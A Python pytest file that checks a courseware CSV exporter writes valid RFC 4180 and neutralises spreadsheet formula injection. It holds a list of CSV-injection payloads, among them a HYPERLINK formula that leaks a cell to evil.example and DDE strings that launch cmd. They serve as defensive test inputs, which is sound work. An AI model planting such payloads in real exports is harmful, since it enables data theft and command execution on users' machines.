"""A list as a file for a spreadsheet: RFC 4180, read back by a reader of its own; and no cell that is a formula.

The beginnings that a spreadsheet acts on, and the mending of them, are those of the OWASP page "CSV Injection".
"""

from decimal import Decimal

import pytest

from courseware.content.words import catalogue, say
from courseware.publish.office_table import Table, csv_bytes, tamed

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click here")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
)
PLAIN = ("Ann Lee", "O'Hara, Jo", 'Bo "Ray" Vise', "Jo Okaf\u00f8r", "two\nlines", "", "7K3Q-9XA2", "2026-11-25")


def table(*names: str) -> Table:
    return Table("people", ("name", "score", "entry"), tuple((name, Decimal("87.5"), 12) for name in names))


def records(data: bytes) -> list[list[str]]:
    """Read RFC 4180: fields parted by commas, records by CRLF, quotes doubled inside quotes."""
    text = data.decode("utf-8-sig")
    rows: list[list[str]] = []
    row: list[str] = []
    field, quoted, place = "", False, 0
    while place < len(text):
        mark = text[place]
        if quoted and text.startswith('""', place):
            field, place = field + '"', place + 1
        elif mark == '"':
            quoted = not quoted
        elif not quoted and mark == ",":
            row.append(field)
            field = ""
        elif not quoted and text.startswith("\r\n", place):
            rows.append([*row, field])
            row, field, place = [], "", place + 1
        else:
            assert quoted or mark not in '\r\n"', "a bare line end or quote outside quotes"
            field += mark
        place += 1
    assert (quoted, row, field) == (False, [], ""), "the last record ends with CRLF"
    return rows


def test_plain_text_comes_back_as_it_is() -> None:
    found = records(csv_bytes(table(*PLAIN)))
    assert found[0] == ["Name", "Score, %", "Entry"]
    assert [row[0] for row in found[1:]] == list(PLAIN)


@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_of_text_begins_as_a_formula(name: str) -> None:
    (_, (first, *_)) = records(csv_bytes(table(name)))
    assert first == f"'{name}"
    assert first[0] not in "=+-@\t\r\n"
    assert csv_bytes(table(name)).count(b"\r\n") == 2, "a name cannot begin a record of its own"


def test_numbers_stay_numbers() -> None:
    data = csv_bytes(Table("people", ("name", "days"), (("Ann", -5), ("Bo", Decimal("66.67")))))
    assert data == b'\xef\xbb\xbf"Name","Days left"\r\n"Ann",-5\r\n"Bo",66.67\r\n'


def test_what_is_no_formula_is_left_alone() -> None:
    assert [tamed(name) for name in PLAIN] == list(PLAIN)


def test_every_list_and_column_has_its_words() -> None:
    words = catalogue("publish_office")
    columns = {key.removeprefix("column-") for key in words if key.startswith("column-")}
    assert Table("people", tuple(columns), ()).headings
    assert (table().title, table().empty) == ("People", "Nobody is enrolled.")
    assert say("publish_office.no-due") == Table("due", (), ()).empty


def test_a_row_leads_where_it_is_said_to() -> None:
    assert table("Ann").link(0) == ""
    assert Table("people", ("name",), (("Ann",), ("Bo",)), ("a.html", "")).link(0) == "a.html"
